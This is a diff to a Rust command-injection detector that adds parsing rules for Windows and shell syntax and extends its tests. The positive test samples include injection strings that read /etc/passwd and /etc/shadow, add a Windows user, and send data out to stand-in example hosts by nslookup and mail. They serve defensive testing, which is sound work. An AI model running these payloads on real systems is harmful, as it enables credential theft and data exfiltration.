@@ -4,6 +4,8 @@
 //! read as a shell reads it, with quotes, backslashes and empty variables taken off. Names that are English words too
 //! ("cat", "sleep", "id") must come with an argument that no sentence has.
 
+mod leading;
+mod local;
 mod names;
 mod place;
 
@@ -14,7 +16,8 @@ use crate::decision::Class;
 use names::{ALONE, FILES, LISTED, NETWORK, is_english, is_rare, is_strong};
 pub(super) use place::is_terse;
 use place::{
-    PROSE, Place, is_all_there_is, is_choice, is_mentioned, is_only, is_table, prose_from, stands_alone,
+    PROSE, Place, Ticks, is_all_there_is, is_choice, is_mentioned, is_only, is_table, prose_from,
+    stands_alone,
 };
 
 pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
@@ -23,8 +26,12 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
     if let Some((at, why)) = marks(text) {
         return hit(at, why);
     }
+    if let Some((at, why)) = leading::command(text) {
+        return hit(at, why);
+    }
     if text.bytes.intersects(ByteSet::from_list(b";|&\n\r`(%+")) {
         let mut prose = None;
+        let mut ticks = Ticks::default();
         let mut near = None;
         let found = separators(text, &mut |at| {
             let inside = lower.get(at..).unwrap_or_default();
@@ -36,7 +43,17 @@ pub(super) fn detect(text: &Text<'_>) -> Option<Hit> {
             let tick = at >= 1 && lower.get(at - 1) == Some(&b'`');
             let mut in_prose = || *prose.get_or_insert_with(|| prose_from(lower)) < at;
             let place = Place::of(lower, at);
+            // What filters the output of another does nothing by itself.
+            let filters = place.mark == b'|' && !place.doubled && local::only_filters(inside);
+            let found = match found {
+                Strength::Surely if filters => Strength::Named,
+                found => found,
+            };
             match found {
+                // Whoever quotes a command within a sentence tells of it.
+                Strength::Surely | Strength::Alone if ticks.are_told(lower, at) => near = near.or(Some(at)),
+                // Names that a sentence may mean otherwise: `$(pwd)/bin`.
+                Strength::Word if substitution && !is_terse(lower) => near = near.or(Some(at)),
                 Strength::Vague | Strength::Named | Strength::Word if substitution => {
                     if memchr::memchr(b')', inside).is_some_and(|end| end < 256) {
                         return Some(hit(at, "a shell would run this and put its output here"));
@@ -282,7 +299,7 @@ fn command(text: &Text<'_>, from: &[u8]) -> Strength {
         [b'(' | b'!', rest @ ..] | [b'{', b' ', rest @ ..] => rest,
         [b'd', b'o', b' ', rest @ ..] | [b't', b'h', b'e', b'n', b' ', rest @ ..] => rest,
         [b'$', b'\'', b'a'..=b'z' | b'\\', ..] => return Strength::Surely,
-        [b'$', b'0', b' ', b'-', ..] => return Strength::Surely,
+        [b'$', b'0', b' ', b'-', ..] | [b'$', b'0', b'<', b'<', b'<', ..] => return Strength::Surely,
         [b'$', rest @ ..] if rest.first().is_some_and(u8::is_ascii_alphabetic) => {
             return variable(text, rest);
         }
@@ -300,7 +317,8 @@ fn command(text: &Text<'_>, from: &[u8]) -> Strength {
 fn variable(text: &Text<'_>, name: &[u8]) -> Strength {
     let length = name.iter().take(24).take_while(|b| b.is_ascii_alphanumeric() || **b == b'_').count();
     let (name, rest) = name.split_at_checked(length).unwrap_or_default();
-    if name == b"shell" && rest.starts_with(b" -") {
+    let own = matches!(name, b"shell" | b"bash");
+    if own && rest.starts_with(b" -") {
         return Strength::Surely;
     }
     let before = text.lower.get(..text.lower.len().min(512)).unwrap_or_default();
@@ -364,6 +382,14 @@ fn plain_command(text: &Text<'_>, from: &[u8]) -> Strength {
     let parted = rest
         .first()
         .is_none_or(|b| b.is_ascii_whitespace() || matches!(b, b'+' | b'<' | b'>' | b'$' | b'{' | b'%'));
+    // `for /f %i in ('whoami') do`, as only Windows has it.
+    if name == b"for" && matches!(argument, [b'/', b'f' | b'l' | b'r' | b'd', b' ', ..]) {
+        return Strength::Surely;
+    }
+    // `set -e` sets how a shell runs what it would run anyway.
+    if name == b"set" && matches!(argument, [b'-' | b'+', b'a'..=b'z', ..]) {
+        return Strength::Word;
+    }
     if rare {
         if !parted && !ends {
             return Strength::No;
@@ -374,7 +400,7 @@ fn plain_command(text: &Text<'_>, from: &[u8]) -> Strength {
         return Strength::Surely;
     }
     if is_argument(argument, name) {
-        return Strength::Surely;
+        return if local::stays(name, argument) { Strength::Named } else { Strength::Surely };
     }
     if (known || FILES.contains(&name)) && names_a_place(argument) {
         return Strength::Surely;
@@ -542,11 +568,11 @@ fn name<'a>(text: &'a [u8], name: &mut [u8; 48]) -> (usize, &'a [u8]) {
 
 /// The first two letters of every name below; a test holds them together.
 const STARTS: &[u8] =
-    b"ad al ar as at aw ba bi bu ca cd ce ch cm co cp cr cs cu da dd de df di dm do du ec en ev ex fa \
-    fi fo fr ft ga gc ge gr gz ha he hi ho id ie if im in ip ir iw jo ki ks ku la ld le ln lo ls lu \
-    ma md mk mo ms mv my na nc ne ni nl nm no np ns od op ou pa pe ph pi po pr ps pw py rd re rm ro \
-    rs ru sc se sh sl so ss st su sy ta tc te tf ti to tr tt ty un up us ve vi wa wg wh wm wr ws xa \
-    xt xx ye zi zs ";
+    b"ad al ap ar as at aw ba bc bi bu ca cd ce ch cm co cp cr cs cu da dd de df di dm do dr du ec en \
+    ev ex fa fi fo fr fs ft ga gc ge gp gr gz ha he hi ho ic id ie if im in ip ir iw jo ki kl ks ku la \
+    ld le ln lo ls lu ma md mk mo ms mv my na nb nc ne ni nl nm no np ns od op ou pa pe ph pi pk po pr \
+    ps pw py qu qw rd re rm ro rs ru sc se sh sl so ss st su sy ta tc te tf ti to tr tt ty un up us ve \
+    vi vs wa we wg wh wm wr ws xa xc xt xx ye zi zs ";
 
 #[expect(clippy::indexing_slicing, reason = "evaluated by the compiler")]
 const fn starts(list: &[u8]) -> [u32; 26] {
@@ -599,6 +625,9 @@ fn is_argument(text: &[u8], name: &[u8]) -> bool {
         [b'@', ..] if name == b"dig" => true,
         _ if matches!(name, b"ssh" | b"scp") && word.contains(&b'@') => true,
         [b'~' | b'$' | b'*', ..] => word.len() > 1,
+        [b'%', name @ .., b'%'] => {
+            name.len() > 2 && name.iter().all(|b| b.is_ascii_alphabetic() || *b == b'_')
+        }
         [b'.', b'/' | b'.', ..] => word.len() > 2,
         // `</p>` closes an element.
         [b'<', b'/', tag @ ..] if tag.ends_with(b">") => false,
@@ -753,6 +782,17 @@ mod tests {
             "<(id)",
             "; diff /etc/passwd /dev/null",
             "x;sudo cat /etc/shadow",
+            "& net user x P@ss /add",
+            "& for /f %i in ('whoami') do nslookup %i.example",
+            "& klist",
+            "|| ./x.sh",
+            "; some_tool --output=/x",
+            "| mail root@x.example < /etc/passwd",
+            "& echo %USERNAME%",
+            "\\nid",
+            "&& ver &",
+            "|echo ABC",
+            ";$0<<<id",
         ] {
             assert!(sample(detect, text), "{text}");
         }
@@ -791,6 +831,16 @@ mod tests {
             "open; 'a' or 'b'; \"c\" is fine",
             "red; (blue); !important; then home",
             "we sell; aws certified staff; ip rights",
+            "mocha && eslint . && node dist/index.js",
+            "rm -rf ./build; make",
+            "`rm -rf` in Makefile deletes too much",
+            "Use `ls -la` to list files; use `cd` to move.",
+            "The shell's `for f in *.txt; do echo $f; done` loop is handy.",
+            "git log --oneline | head -5 shows the commit; git bisect doesn't.",
+            "Use ${HOME}/bin or $(pwd)/bin",
+            "set -e; set -x are shell options",
+            "& Sons /London",
+            "| -x | --help |",
         ] {
             assert!(!sample(detect, text), "{text}");
         }
